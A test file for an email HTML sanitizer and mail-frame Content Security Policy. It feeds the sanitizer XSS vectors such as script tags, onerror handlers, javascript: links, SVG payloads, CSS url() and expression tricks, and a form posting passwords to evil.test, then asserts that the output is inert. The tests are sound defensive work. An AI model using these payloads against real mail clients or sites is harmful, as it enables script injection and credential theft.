import { describe, expect, it } from "vitest";
import { mailFrameCsp } from "./mail-document";
import { BLOCKED_IMAGE_PLACEHOLDER } from "./placeholders";
import { sanitizeMailHtml } from "./sanitize-mail-html";

const clean = (html: string, allowRemoteImages = false, resolveCid?: (cid: string) => string | null) =>
  sanitizeMailHtml(html, { allowRemoteImages, resolveCid }).html;

// Anything in the output that could run script, fetch from elsewhere or navigate the frame.
function assertInert(html: string) {
  expect(html).not.toMatch(/<script|<iframe|<frame|<object|<embed|<svg|<math|<form|<input|<button|<textarea|<meta|<base|<link|<template/i);
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/javascript:|vbscript:|expression\(|@import|-moz-binding|behavior:/i);
  expect(html).not.toMatch(/(href|src|action|formaction|background|poster|xlink:href)\s*=\s*["']?\s*data:text/i);
}

describe("sanitizeMailHtml", () => {
  it("drops scripts in every spelling, with their content", () => {
    const vectors = [
      "<script>alert(1)</script>",
      "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
      "<scr<script>ipt>alert(1)</script>",
      "<script\n>alert(1)</script\n>",
      "<!--<script>alert(1)//--><script>alert(2)</script>",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    ];
    for (const vector of vectors) {
      const html = clean(`<p>hi</p>${vector}`);
      assertInert(html);
      expect(html).not.toContain("alert(1)</");
      expect(html).toContain("<p>hi</p>");
    }
  });

  it("removes every event handler attribute", () => {
    const html = clean(
      `<img src="x" onerror="alert(1)"><body onload=alert(1)><div onmouseover='alert(1)' ONCLICK="x">t</div><a href="https://a.test" onfocus=alert(1) autofocus>a</a><details open ontoggle=alert(1)>`,
    );
    assertInert(html);
    expect(html).not.toMatch(/alert/);
  });

  it("keeps only http(s), mailto and tel links, opening in a new tab without opener or referrer", () => {
    const html = clean(
      [
        `<a href="javascript:alert(1)">js</a>`,
        `<a href="JaVaScRiPt&#58;alert(1)">js2</a>`,
        `<a href="java&#x09;script:alert(1)">js3</a>`,
        `<a href="  javascript:alert(1)">js4</a>`,
        `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
        `<a href="vbscript:msgbox(1)">vb</a>`,
        `<a href="/relative/path">rel</a>`,
        `<a href="https://example.test/ok?a=1&amp;b=2" target="_self">ok</a>`,
        `<a href="mailto:bob@example.test">mail</a>`,
      ].join(""),
    );
    assertInert(html);
    expect(html).toContain(`<a href="https://example.test/ok?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">ok</a>`);
    expect(html).toContain(`<a href="mailto:bob@example.test" target="_blank" rel="noopener noreferrer">mail</a>`);
    // The unsafe ones survive as plain text without an href.
    for (const label of ["js", "js2", "js3", "js4", "data", "vb", "rel"]) expect(html).toContain(`rel="noopener noreferrer">${label}</a>`);
    expect(html.match(/href=/g)).toHaveLength(2);
  });

  it("drops SVG and MathML with everything inside them", () => {
    const html = clean(
      `<svg onload=alert(1)><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>x</text></a><foreignObject><img src=x onerror=alert(4)></foreignObject></svg><math><mtext><img src=x onerror=alert(5)></mtext></math><p>after</p>`,
    );
    assertInert(html);
    expect(html).not.toMatch(/alert/);
    expect(html).toContain("<p>after</p>");
  });

  it("neutralises CSS that fetches or runs: url(), @import, expression, bindings, escapes", () => {
    const html = clean(
      `<style>@import url(https://evil.test/a.css); body{background:url("https://evil.test/bg.png")} .x{background-image:u\\72l(https://evil.test/esc.png)} .y{width:expression(alert(1))} .z{-moz-binding:url(https://evil.test/x.xml#x)} @font-face{font-family:x;src:url(https://evil.test/f.woff)}</style>` +
        `<div style="background:url('https://evil.test/inline.png');color:red">t</div><p style="background-image:image-set('https://evil.test/set.png' 1x)">s</p><td background="https://evil.test/td.png">`,
      true,
    );
    assertInert(html);
    expect(html).not.toContain("evil.test");
    expect(html).toContain("color:red");
    expect(html).toMatch(/<style>[^<]*<\/style>/);
  });

  it("drops meta refresh, base, link, forms, inputs, iframes, objects, embeds and media", () => {
    const html = clean(
      `<meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test/"><link rel=stylesheet href="https://evil.test/x.css">` +
        `<form action="https://evil.test/steal" method=post><input name=p type=password><button formaction="https://evil.test">Go</button><textarea>secret</textarea><select><option>o</option></select>Form text</form>` +
        `<iframe src="https://evil.test"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src="x.swf"><video src="https://evil.test/v.mp4" poster="https://evil.test/p.png"></video><audio src="https://evil.test/a.mp3"></audio><template><img src=x onerror=alert(1)></template>`,
    );
    assertInert(html);
    expect(html).not.toContain("evil.test");
    expect(html).not.toContain("secret");
    expect(html).toContain("Form text");
  });

  it("blocks remote images behind a placeholder until allowed, and counts them", () => {
    const src = `<p>x</p><img src="http://127.0.0.1:9/pixel.png" width="1" height="1"><img src="//cdn.test/logo.png" srcset="https://cdn.test/2x.png 2x" alt="Logo">`;
    const blocked = sanitizeMailHtml(src, { allowRemoteImages: false });
    expect(blocked.remoteImages).toBe(2);
    expect(blocked.html).not.toContain("127.0.0.1");
    expect(blocked.html).not.toContain("cdn.test");
    expect(blocked.html.match(/data-tl-blocked="remote"/g)).toHaveLength(2);
    expect(blocked.html).toContain(BLOCKED_IMAGE_PLACEHOLDER);
    expect(blocked.html).toContain('alt="Logo"');

    const allowed = sanitizeMailHtml(src, { allowRemoteImages: true });
    expect(allowed.html).toContain('src="http://127.0.0.1:9/pixel.png"');
    expect(allowed.html).toContain('src="https://cdn.test/logo.png"');
    expect(allowed.html).not.toContain("srcset");
  });

  it("keeps data: images but not data: documents or SVG from the mail", () => {
    const html = clean(`<img src="data:image/png;base64,iVBORw0KGgo="><img src="data:text/html,<script>alert(1)</script>"><img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">`);
    expect(html).toContain('src="data:image/png;base64,iVBORw0KGgo="');
    expect(html).not.toContain("data:text/html");
    expect(html).not.toContain("PHN2Zz48L3N2Zz4=");
    expect(html.match(/data-tl-blocked="missing"/g)).toHaveLength(2);
  });

  it("resolves cid: images through the caller and shows a placeholder for unknown parts", () => {
    const html = clean(`<img src="cid:logo@mail"><img src="cid:%3Cother%40mail%3E"><img src="cid:unknown">`, false, (cid) =>
      cid === "logo@mail" ? "data:image/png;base64,AAAA" : cid === "other@mail" ? "data:image/gif;base64,BBBB" : null,
    );
    expect(html).toContain('src="data:image/png;base64,AAAA"');
    expect(html).toContain('src="data:image/gif;base64,BBBB"');
    expect(html).toContain('data-tl-blocked="missing"');
  });

  it("collapses quoted replies and signatures into closed <details>, and keeps the mail's body styling", () => {
    const html = clean(
      `<body style="background:#eef"><div dir="ltr">New text</div><div class="gmail_signature">Bob — CEO</div><div class="gmail_quote"><div>On Mon, Bob wrote:</div><blockquote class="gmail_quote">old</blockquote></div><blockquote type="cite">older</blockquote></body>`,
    );
    expect(html).toContain('<div style="background:#eef" class="tl-mail-body">');
    expect(html.match(/<details class="tl-collapse tl-quote">/g)).toHaveLength(3);
    expect(html.match(/<details class="tl-collapse tl-signature">/g)).toHaveLength(1);
    expect(html).not.toContain(" open");
    // Mail text can never forge the marker.
    const forged = clean(`<p>&lt;details data-tl-collapse="quote"&gt;</p><details data-tl-collapse="quote"><summary>x</summary></details>`);
    expect(forged).not.toContain("tl-collapse tl-quote");
  });

  it("survives hostile markup without throwing: unclosed tags, deep nesting, huge attributes", () => {
    const deep = "<div>".repeat(5000) + "x" + "</div>".repeat(10);
    expect(() => clean(deep)).not.toThrow();
    expect(() => clean(`<a href="${"https://a.test/".padEnd(200_000, "a")}">x`)).not.toThrow();
    expect(clean("<p>unclosed <b>bold")).toBe("<p>unclosed <b>bold</b></p>");
  });
});

describe("mailFrameCsp", () => {
  it("forbids scripts and remote loads, adding http(s) images only when allowed", () => {
    const blocked = mailFrameCsp({ allowRemoteImages: false });
    expect(blocked).toContain("default-src 'none'");
    expect(blocked).toContain("img-src data:;");
    expect(blocked).not.toMatch(/script-src|https?:/);
    expect(blocked).toContain("sandbox allow-popups allow-popups-to-escape-sandbox");
    expect(mailFrameCsp({ allowRemoteImages: true })).toContain("img-src data: http: https:;");
  });
});
